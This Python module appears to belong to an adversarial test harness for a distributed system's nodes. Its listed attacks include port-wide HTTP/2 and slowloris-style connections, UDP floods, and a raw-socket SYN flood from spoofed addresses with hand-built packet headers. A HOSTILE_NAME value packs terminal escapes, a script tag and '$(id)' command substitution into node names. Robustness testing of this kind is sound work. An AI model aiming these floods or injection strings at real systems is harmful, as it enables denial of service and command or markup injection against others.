"""Attacks on what the nodes listen on beside the master port, and floods that no program answers."""

from __future__ import annotations

import os
import socket
import struct
import time
from contextlib import suppress

from scripts.attacking.datagrams import knock
from scripts.attacking.field import Field, again, attack, datagrams
from scripts.attacking.stored import hello, in_store, put, store_of

_EPHEMERAL = range(32768, 61000)
_HTTP2 = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes.fromhex("000006040000000000000300000064")
HOSTILE_NAME = "\x1b[2J\x1b]0;x\x07\r\n::error::x\u202e<script>$(id)"


def _to_all_ports(field: Field, data: bytes, held: list[socket.socket] | None = None) -> None:
    """Say it at every port of the nodes that listens; keep the connections, where a list is given."""
    for port in _EPHEMERAL:
        for node in field.nodes:
            with suppress(OSError):
                made = socket.create_connection((node, port), 0.2)
                made.sendall(data)
                if held is None:
                    made.close()
                else:
                    held.append(made)


@attack
def http2_to_all_ports(field: Field) -> None:
    """Begin HTTP/2 at every port of the nodes that listens."""
    again(lambda: _to_all_ports(field, _HTTP2), threads=1)


@attack
def slow_greetings_to_all_ports(field: Field) -> None:
    """Hold connections to every port of the nodes that listens, with a greeting that never ends."""
    held: list[socket.socket] = []

    def once() -> None:
        _to_all_ports(field, b'{"nonce":"', held)
        for made in held:
            with suppress(OSError):
                made.sendall(b"0")

    again(once, threads=1)


@attack
def datagrams_to_all_ports(field: Field) -> None:
    """Send a datagram to every UDP port of the nodes, again and again."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        while True:
            for port in _EPHEMERAL:
                for node in field.nodes:
                    with suppress(OSError):
                        sender.sendto(os.urandom(64), (node, port))


@attack
def half_open_flood(field: Field) -> None:
    """Send SYNs from addresses that nobody has, thousands each second, to the master port."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
        while True:
            for _ in range(100):
                source = f"10.78.0.{field.random.randrange(20, 250)}"
                with suppress(OSError):
                    sender.sendto(_syn(field, source), (field.host, 0))
            time.sleep(0.01)


def _syn(field: Field, source: str) -> bytes:
    addresses = socket.inet_aton(source) + socket.inet_aton(field.host)
    port, number = field.random.randrange(1024, 65536), field.random.getrandbits(32)
    segment = struct.pack("!HHIIBBHHH", port, field.port, number, 0, 5 << 4, 2, 64240, 0, 0)
    total = sum(struct.unpack("!16H", addresses + struct.pack("!BBH", 0, 6, len(segment)) + segment))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    segment = segment[:16] + struct.pack("!H", ~total & 0xFFFF) + segment[18:]
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(segment), 0, 0, 64, 6, 0) + addresses
    return header + segment


@attack
def refusals_of_keys(field: Field) -> None:
    """Say in the name of nodes 1 and 2 that they refuse their key files."""
    datagrams(
        field, lambda: knock(field.random.randrange(1, 3), HOSTILE_NAME, "other-key", detail=HOSTILE_NAME * 9)
    )


@attack
def keys_with_huge_names(field: Field) -> None:
    """Write keys whose names have a megabyte."""
    in_store(field, lambda store: store.set(f"{time.time_ns()}{'k' * (1 << 20)}", "1"))


@attack
def hostile_hellos(field: Field) -> None:
    """Join as nodes whose names a terminal, a page or a log would follow."""
    store = store_of(field)
    while not store.check(["ncclcheck/1//serving"]):
        time.sleep(0.01)

    def write(store: object) -> None:
        for ticket in range(2, 6):
            put(store, f"hello/{ticket}", hello(f"{HOSTILE_NAME}{ticket}", ticket - 1))

    in_store(field, write)
